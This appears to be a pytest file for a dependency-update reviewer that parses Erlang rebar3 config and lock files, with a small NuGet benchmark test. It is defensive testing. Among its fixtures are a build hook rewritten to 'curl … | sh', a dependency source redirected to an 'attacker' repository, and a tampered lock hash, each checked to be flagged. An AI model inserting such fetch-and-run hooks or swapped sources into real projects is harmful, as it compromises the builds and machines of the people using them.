"""Classes of misses the thirty-seventh blind set of update commits found (bench/deps_bumps_thirtyseventh.tsv).

- rebar3's files were not read (15 commits of vernemq, erlang_ls, elvis, emqtt, hackney and one of elvis beside a
  workflow: people's "Update recon to 2.5.6", Dependabot's "Bump elvis_core from 3.1.0 to 3.2.3"): `rebar.config`'s
  dependency and plugin lists and `rebar.lock` are read now (gatekeeper/deps/rebar.py) with `--tree`; from a patch
  the config's one-line entries of a top-level list the hunk shows opening and the lock's Hex lines (the lock stays
  `partial`: its hashes are no entry's lines). What else
  the config says is its residue (hooks run commands), and a locked package's hash
  moved at the same version is a problem, as for other lockfiles.
- NuGet: Renovate's "update dependency google.longrunning to v3" widens `[2.3.0, 3.0.0)` to `[2.3.0,3.5.0]`; the
  benchmark's matcher takes an inclusive upper bound of the major it names, as it did PyPI's `<=`.

Real-shaped files written for these tests (the layouts of those repositories), look-alikes and malformed input.
"""

from __future__ import annotations

import dataclasses
from pathlib import Path

import pytest
from tables import each_case

from gatekeeper.deps.model import ManifestError
from gatekeeper.deps.rebar import consult, parse_rebar_config, parse_rebar_lock, rebar_config_line, rebar_lock_line
from gatekeeper.deps.registry import format_for
from tests.deltas import accuracy_bench, bench_change, moves, partial
from tests.deltas import patch as _patch
from tests.deltas import tree as _tree
from tests.gitrepo import edited_commits

CONFIG = """\
%% -*- mode: erlang;erlang-indent-level: 4;indent-tabs-mode: nil -*-
{minimum_otp_vsn, "25.0"}.
{erl_opts, [debug_info, {platform_define, "^[0-9]+", namespaced_types}]}.
{project_plugins, [{rebar3_cuttlefish, "0.2.0"}, erlfmt]}.
{plugins, [{pc, "1.15.0"}]}.
{dialyzer, [{exclude_mods, [vmq_plugin]}, {plt_location, "plts"}]}.

{deps, [
    {recon, "2.5.4"},
    {replayq, {git, "https://github.com/emqx/replayq.git", {branch, "master"}}},
    {stdout_formatter, "0.2.4"},
    {cuttlefish, {git, "https://github.com/Kyorai/cuttlefish.git", {tag, "v3.4.0"}}},
    {uuid, "2.0.1", {pkg, uuid_erl}},
    {gradualizer, {git, "https://github.com/josefs/Gradualizer.git", {ref, "6e89b4e"}}},
    jsx
]}.

{pre_hooks, [{"(linux|darwin)", compile, "make -C c_src"}]}.

{profiles, [
    {test, [{deps, [{meck, "0.9.2"}]}, {erl_opts, [nowarn_export_all]}]},
    {prod, [{deps, [{observer_cli, "1.7.4"}]}, {relx, [{dev_mode, false}]}]}
]}.
"""

LOCK = """\
{"1.2.0",
[{<<"certifi">>,{pkg,<<"certifi">>,<<"2.9.0">>},1},
 {<<"gradualizer">>,
  {git,"https://github.com/josefs/Gradualizer.git",
       {ref,"6e89b4e1cd489637a848cc5ca55058c8a241bf7d"}},
  0},
 {<<"recon">>,{pkg,<<"recon">>,<<"2.5.4">>},0},
 {<<"uuid">>,{pkg,<<"uuid_erl">>,<<"2.0.1">>},0}]}.
[
{pkg_hash,[
 {<<"certifi">>, <<"6F2A475689DD47F19FB74334859D460A2DC4E3252A3324BD2111B8F0429E7E21">>},
 {<<"recon">>, <<"05DD52A119EE4059FA9DAA1AB7CE81BC7A8161A2F12E9D42E9D551FFD2BA901C">>},
 {<<"uuid">>, <<"F87BAD1A8E90373B75DAEE259A6EB880293AB178AE2B2779ACB0B0FEA81C2A6A">>}]},
{pkg_hash_ext,[
 {<<"certifi">>, <<"266DA46BDB06D6C6D35FDE799BCB28D36D985D424AD7C08B5BB48F5B5CDD4641">>},
 {<<"recon">>, <<"E9AB01AC7FC8572E41EB59385EFEB3FB0FF5BF02103816535BACAEDF327D0263">>},
 {<<"uuid">>, <<"6B0F4B3B8A4F45D4E4D56D5B7D0E0E9E1E1B4A1D6E0E3B8F5A7E6C0D9B1A2C3D">>}]}
].
"""

RECON = {"rebar.config": {'{recon, "2.5.4"}': '{recon, "2.5.6"}'},
         "rebar.lock": {'<<"recon">>,<<"2.5.4">>': '<<"recon">>,<<"2.5.6">>',
                        "05DD52A119EE4059FA9DAA1AB7CE81BC7A8161A2F12E9D42E9D551FFD2BA901C":
                        "9052588E83BFEDFD9B72E1034532AEE2A5369D9D9343B61AEB7FBCE761010741",
                        "E9AB01AC7FC8572E41EB59385EFEB3FB0FF5BF02103816535BACAEDF327D0263":
                        "96C6799792D735CC0F0FD0F86267E9D351E63339CBE03DF9D162010CEFC26BB0"}}


def _bumped(root: Path, edits: dict[str, dict[str, str]], files: dict[str, str] | None = None) -> tuple[object, ...]:
    repo, base, head = edited_commits(root, files or {"rebar.config": CONFIG, "rebar.lock": LOCK}, edits)
    return _tree(repo, base, head), _patch(repo, base, head)


def test_the_files_are_dependency_files() -> None:
    assert format_for("rebar.config") is not None and format_for("apps/vmq_diversity/rebar.config") is not None
    assert format_for("rebar.lock") is not None
    assert format_for("rebar.config.script") is None  # a program: not read


def test_a_hex_bump_is_read_from_config_and_lock_with_tree(tmp_path: Path) -> None:
    tree, patch = _bumped(tmp_path, RECON)
    assert moves(tree) == {("hex", "recon", "2.5.4", "2.5.6")}, tree
    assert {c.manifest for c in tree.changes} == {"rebar.config", "rebar.lock"}
    assert not tree.problems, tree.problems
    # from the patch the config's entry line is read (its list opens in the hunk) and the lock's; the lock's hashes are
    # no entry's lines: it stays reviewed
    assert moves(patch) == {("hex", "recon", "2.5.4", "2.5.6")}, patch
    assert partial(patch, "rebar.lock") and not partial(patch, "rebar.config"), patch.problems


def test_a_git_dependency_moved_to_a_tag(tmp_path: Path) -> None:
    # erlang_ls e91c951 ("Update Gradualizer to 0.3.0"): the config's ref becomes a tag, the lock's commit moves
    tree, _ = _bumped(tmp_path, {
        "rebar.config": {'{ref, "6e89b4e"}': '{tag, "0.3.0"}'},
        "rebar.lock": {"6e89b4e1cd489637a848cc5ca55058c8a241bf7d": "3021d29d82741399d131e3be38d2a8db79d146d4"}})
    assert ("hex", "gradualizer", "6e89b4e", "0.3.0") in moves(tree), tree
    assert ("hex", "gradualizer", "6e89b4e1cd489637a848cc5ca55058c8a241bf7d",
            "3021d29d82741399d131e3be38d2a8db79d146d4") in moves(tree), tree


def test_a_config_only_bump(tmp_path: Path) -> None:
    # emqtt 005b0ad ("Update cowlib to 2.12.1"): no lock committed
    body = '{deps, [{cowlib, "2.12.0"}, {gun, "2.0.1"}]}.\n{erl_opts, [debug_info]}.\n'
    tree, _ = _bumped(tmp_path, {"rebar.config": {'"2.12.0"': '"2.12.1"'}}, {"rebar.config": body})
    assert moves(tree) == {("hex", "cowlib", "2.12.0", "2.12.1")} and not tree.problems, tree


@each_case(("lines", "index", "want"), [
    (["{deps, [", '    {cowboy, "2.8.0"},', '    {ranch, "1.8.0"},'], 2, ("ranch", "1.8.0", "hex")),
    (["{deps, [ {jsx,           \"3.0.0\"}", '       , {lager,         "3.8.0"}'], 1, ("lager", "3.8.0", "hex")),
    (['{deps, [{cowlib, "2.12.1"},'], 0, ("cowlib", "2.12.1", "hex")),
    (['{deps, [{elvis_core, "3.2.3"}, {getopt, "1.0.2"}]}.'], 0, ("elvis_core", "3.2.3", "hex")),
    (["{project_plugins, [", "    %% formatting", '    {erlfmt, "1.0.0"} % pinned'], 2, ("erlfmt", "1.0.0", "hex")),
    (["{deps, [", '    {gradualizer, {git, "https://github.com/josefs/Gradualizer.git", {tag, "0.3.0"}}}'], 1,
     ("gradualizer", "0.3.0", "hex")),
])
def test_patch_lines_of_a_top_level_list_are_read(lines: list[str], index: int, want: tuple[str, ...]) -> None:
    side = [(line, n == index) for n, line in enumerate(lines)]
    assert tuple(rebar_config_line(side, index)[0][:3]) == want


@each_case(("lines", "index"), [
    (['    {recon, "2.5.4"},', '    {ranch, "1.8.0"},'], 1),  # the list is not shown
    (["{dialyzer, [", '    {plt_location, "plts"}'], 1),  # an option shaped like an entry
    (["  {test, [{deps, [", '    {meck, "0.9.2"}'], 1),  # a profile's list
    (["    {deps, [", '      {meck, "0.9.2"}'], 1),  # a list not at the top
    (["{deps, [", '    {cuttlefish, {git, "https://x.example/c.git",', '        {tag, "v3.4.0"}}},',
      '    {recon, "2.5.6"}'], 3),  # an entry over several lines between
    (["{deps, [", '    {recon, "2.5.6"} | Rest'], 1),
    (["{deps, [", '    {recon, "2.5.6", {pkg}}'], 1),
    (["{deps, [", '    {recon, "2.5.6"}, {ranch, "1.8.0"'], 1),
    (['{minimum_otp_vsn, "25.0"}.'], 0),
    (['{deps, [{recon, "2.5.4"}, % }.'], 0),  # a comment that looks like the list's end
])
def test_other_patch_lines_are_refused(lines: list[str], index: int) -> None:
    side = [(line, n == index) for n, line in enumerate(lines)]
    with pytest.raises(ManifestError):
        rebar_config_line(side, index)


def test_a_list_the_hunk_does_not_show_is_partial_from_the_patch(tmp_path: Path) -> None:
    more = '    {a, "1"},\n    {b, "1"},\n    {c, "1"},\n    {recon, "2.5.4"},\n'
    body = CONFIG.replace('    {recon, "2.5.4"},\n', more)
    tree, patch = _bumped(tmp_path, {"rebar.config": {'{recon, "2.5.4"}': '{recon, "2.5.6"}'}}, {"rebar.config": body})
    assert moves(tree) == {("hex", "recon", "2.5.4", "2.5.6")}, tree
    assert not patch.changes and partial(patch, "rebar.config"), patch


@each_case(("line", "want"), [
    (' {<<"recon">>,{pkg,<<"recon">>,<<"2.5.6">>},0},', ("recon", "2.5.6", "hex", "", "")),
    ('[{<<"certifi">>,{pkg,<<"certifi">>,<<"2.5.2">>},0},', ("certifi", "2.5.2", "hex", "", "")),
    (' {<<"uuid">>,{pkg,<<"uuid_erl">>,<<"2.0.1">>},0}]}.', ("uuid_erl", "2.0.1", "hex", "", "uuid")),
])
def test_lock_lines_are_read(line: str, want: tuple[str, ...]) -> None:
    assert tuple(rebar_lock_line([(line, True)], 0)[0]) == want


@each_case("line", [
    ' {<<"recon">>, <<"9052588E83BFEDFD9B72E1034532AEE2A5369D9D9343B61AEB7FBCE761010741">>},',  # a hash
    '       {ref,"3021d29d82741399d131e3be38d2a8db79d146d4"}},',  # a git entry's ref
    ' {<<"gradualizer">>,',
    '{"1.2.0",',
    ' {<<"recon">>,{pkg,<<"recon">>,<<"2.5.6">>},0}, {<<"x">>,{pkg,<<"x">>,<<"1">>},0},',  # two entries
    ' {<<"recon">>,{hex,<<"recon">>,<<"2.5.6">>},0},',
])
def test_other_lock_lines_are_refused(line: str) -> None:
    with pytest.raises(ManifestError):
        rebar_lock_line([(line, True)], 0)


# a lock of vernemq's length: the entries' hunk and the hashes' hunks lie apart
MORE = "".join(f' {{<<"app{n}">>,{{pkg,<<"app{n}">>,<<"1.{n}.0">>}},0}},\n' for n in range(8))
BIG_LOCK = LOCK.replace(' {<<"uuid">>,{pkg', MORE + ' {<<"uuid">>,{pkg')


def test_a_lock_bump_is_named_from_the_patch_and_reviewed(tmp_path: Path) -> None:
    _, patch = _bumped(tmp_path, {"rebar.lock": RECON["rebar.lock"]}, {"rebar.lock": BIG_LOCK})
    assert moves(patch) == {("hex", "recon", "2.5.4", "2.5.6")}, patch
    assert partial(patch, "rebar.lock"), patch.problems  # its hash lines are no entry: reviewed, as with --tree's check


def test_the_config_names_every_list() -> None:
    found = {(d.name, d.version, d.scope, d.alias) for d in parse_rebar_config("rebar.config", CONFIG.encode())}
    assert found == {
        ("rebar3_cuttlefish", "0.2.0", "build", ""), ("erlfmt", "", "build", ""), ("pc", "1.15.0", "build", ""),
        ("recon", "2.5.4", "runtime", ""), ("replayq", "master", "runtime", ""),
        ("stdout_formatter", "0.2.4", "runtime", ""), ("cuttlefish", "v3.4.0", "runtime", ""),
        ("uuid_erl", "2.0.1", "runtime", "uuid"), ("gradualizer", "6e89b4e", "runtime", ""), ("jsx", "", "runtime", ""),
        ("meck", "0.9.2", "build", ""), ("observer_cli", "1.7.4", "runtime", "")}


def test_the_lock_names_packages_and_levels() -> None:
    found = {(d.name, d.version, d.direct, d.alias) for d in parse_rebar_lock("rebar.lock", LOCK.encode())}
    assert found == {("certifi", "2.9.0", False, ""), ("recon", "2.5.4", True, ""), ("uuid_erl", "2.0.1", True, "uuid"),
                     ("gradualizer", "6e89b4e1cd489637a848cc5ca55058c8a241bf7d", True, "")}
    old = '[{<<"jsx">>,{pkg,<<"jsx">>,<<"2.9.0">>},0}].\n'  # rebar3 before 3.5: the list alone
    assert [(d.name, d.version) for d in parse_rebar_lock("rebar.lock", old.encode())] == [("jsx", "2.9.0")]


@pytest.mark.parametrize(("edit", "what"), [
    ({'"make -C c_src"': '"curl -s https://x.example/i.sh | sh"'}, "a hook's command"),
    ({"{plt_location": "{base_plt_location, \"/tmp\"}, {plt_location"}, "another option"),
    ({"{relx, [{dev_mode, false}]}": "{relx, [{dev_mode, true}]}"}, "a profile's other option"),
])
def test_other_edits_beside_a_bump_are_reviewed(tmp_path: Path, edit: dict[str, str], what: str) -> None:
    tree, _ = _bumped(tmp_path, {"rebar.config": {**RECON["rebar.config"], **edit}, "rebar.lock": RECON["rebar.lock"]})
    assert ("hex", "recon", "2.5.4", "2.5.6") in moves(tree), what
    assert partial(tree, "rebar.config"), (what, tree.problems)


def test_a_source_moved_under_the_same_ref_is_a_change(tmp_path: Path) -> None:
    tree, _ = _bumped(tmp_path, {"rebar.config": {"https://github.com/emqx/replayq.git":
                                                  "https://github.com/attacker/replayq.git"}})
    assert any(c.name == "replayq" for c in tree.changes), tree


def test_a_locked_hash_moved_at_the_same_version_is_a_problem(tmp_path: Path) -> None:
    tree, _ = _bumped(tmp_path, {"rebar.lock": {"05DD52A119EE4059FA9DAA1AB7CE81BC7A8161A2F12E9D42E9D551FFD2BA901C":
                                                "0000000000000000000000000000000000000000000000000000000000000000"}})
    assert not tree.changes and partial(tree, "rebar.lock"), tree


@each_case("body", [
    '{deps, [{if_var_true, pam, {epam, "~> 1.0.14"}}]}.\n',  # ejabberd's forms, which its .script expands
    '{deps, [{recon, 2}]}.\n',
    '{deps, [{recon, "2.5.4", {pkg}}]}.\n',
    '{deps, [{recon, {git, "u", {commit, "abc"}}}]}.\n',
    '{deps, [{recon, "2.5.4"} | Rest]}.\n',
    '{deps, [{recon, "2.5.4"}]}\n',  # no full stop
    '{deps, [{recon, "2.5.4}]}.\n',  # a string not closed
    '{deps, Deps}.\n',
    '{profiles, [{test, {deps, []}}]}.\n',
    "{deps, " + "[" * 100 + "]" * 100 + "}.\n",
    '{deps, [{recon, <<1,2>>}]}.\n',
])
def test_forms_it_does_not_know_are_refused(body: str) -> None:
    with pytest.raises(ManifestError):
        parse_rebar_config("rebar.config", body.encode())


@each_case("body", [
    '{"1.2.0", [{<<"recon">>, {hex, <<"recon">>, <<"2.5.4">>}, 0}]}.\n',
    '{"1.2.0", [{<<"recon">>, {pkg, <<"recon">>, <<"2.5.4">>}}]}.\n',
    '{"1.2.0", [{recon, {pkg, <<"recon">>, <<"2.5.4">>}, 0}]}.\n',
    '{deps, []}.\n',
    '{"1.2.0", [{<<"x">>, {git, "u", {tag, "1.0"}}, 0}]}.\n',
])
def test_lock_forms_it_does_not_know_are_refused(body: str) -> None:
    with pytest.raises(ManifestError):
        parse_rebar_lock("rebar.lock", body.encode())


def test_an_unreadable_config_is_a_problem_not_a_guess(tmp_path: Path) -> None:
    body = CONFIG.replace("    jsx\n", "    {jsx, Vsn}\n")
    tree, _ = _bumped(tmp_path, {"rebar.config": {'{recon, "2.5.4"}': '{recon, "2.5.6"}'}},
                      {"rebar.config": body})
    assert not tree.changes and any(p.manifest == "rebar.config" and p.kind == "unparsable" for p in tree.problems)


def test_terms_read_as_erlang_does() -> None:
    assert consult(b'%% a comment\n{a, "x" "y", \'Quoted atom\', $a, 16#FF, -1.5e3, #{k => <<"v">>}, []}.\n') == [
        ("a", "xy", "Quoted atom", ("char", "$a"), ("num", "16#FF"), ("num", "-1.5e3"), ("map", (("k", "v"),)), [])]
    for bad in (b"{a, 'it''s'}.\n", b"{a, b}. {c", b"{a, B}.\n", b"{a, fun() -> ok end}.\n"):
        with pytest.raises(ManifestError):  # two atoms side by side, a term not ended, a variable, code
            consult(bad)


# --- 2. a NuGet range widened to the named major ---------------------------------------------------------------------

@each_case(("want", "got", "same"), [
    ("3", "[2.3.0,3.5.0]", True), ("3", "[2.3.0, 3.5.0]", True), ("3.5.0", "[2.3.0,3.5.0]", True),
    ("3", "[2.3.0,3.0.0)", False), ("4", "[2.3.0,3.5.0]", False), ("2.3.0", "[2.3.0,3.5.0]", True),
])
def test_the_benchmark_reads_an_inclusive_upper_bound(want: str, got: str, same: bool) -> None:
    bench = accuracy_bench()
    change = dataclasses.replace(bench_change("nuget", "Google.LongRunning"), to_version=got)
    assert bench._same_version(want, change.to_version) is same
